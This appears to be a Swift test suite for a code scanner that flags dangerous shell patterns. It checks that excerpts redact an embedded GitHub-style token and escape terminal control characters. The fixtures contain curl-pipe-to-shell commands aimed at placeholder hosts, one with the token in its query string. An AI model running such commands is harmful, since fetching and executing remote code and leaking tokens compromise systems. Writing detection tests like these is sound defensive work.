import Testing

@testable import BulkheadScanner

@Suite struct ExcerptTests {
  private static let token = "ghp" + "_zQWBuTSOoRi4A9spHcVY5ncnsDkxkJ0mLq17"

  private static func excerpts(_ source: String, path: String = "a.sh") -> [SourceExcerpt] {
    CodeScanner().scanCode(source, path: path).dangerousPatterns.compactMap(\.excerpt)
  }

  @Test("an excerpt is the line, cut where the fault is")
  func line() throws {
    let excerpt = try #require(Self.excerpts("\tcurl -s https://x.example/i | sh # 1\n").first)
    #expect(excerpt.line == "curl -s https://x.example/i | sh # 1")
    #expect(excerpt.before == "curl -s https://x.example/i | ")
    #expect(excerpt.marked == "sh")
  }

  @Test(
    "no part of a credential is in an excerpt, wherever the cuts fall",
    arguments: [0, 1, 10, 25, 50, 59, 60, 61, 70, 90, 100, 110, 119, 120, 200])
  func redacted(distance: Int) throws {
    let padding = String(repeating: "x", count: distance)
    let sources = [
      "T=\(Self.token) P=\(padding) && curl -s https://x.example/i | sh",
      "curl -s https://x.example/i | sh && P=\(padding) T=\(Self.token)",
      "curl -s https://x.example/\(padding)?t=\(Self.token) | sh",
    ]
    for source in sources {
      for excerpt in Self.excerpts(source) {
        #expect(!excerpt.line.contains(Self.token.dropFirst(8)))
        #expect(!excerpt.line.contains(Self.token.suffix(12)))
        #expect(!excerpt.line.contains(Self.token.dropFirst(10).prefix(12)))
      }
    }
    #expect(!sources.flatMap { Self.excerpts($0) }.isEmpty)
  }

  @Test("what a terminal would obey is escaped, and letters are never cut")
  func escaped() throws {
    let line = "echo '\u{1B}[2J\u{202E}' \(String(repeating: "ä", count: 90)); curl x.io | sh"
    let excerpts = Self.excerpts(line)
    for excerpt in excerpts {
      #expect(!excerpt.line.unicodeScalars.contains { $0.value < 0x20 || $0 == "\u{202E}" })
      #expect(!excerpt.line.contains("\u{FFFD}"))
    }
    #expect(excerpts.contains { $0.before.hasPrefix("…") })
  }
}
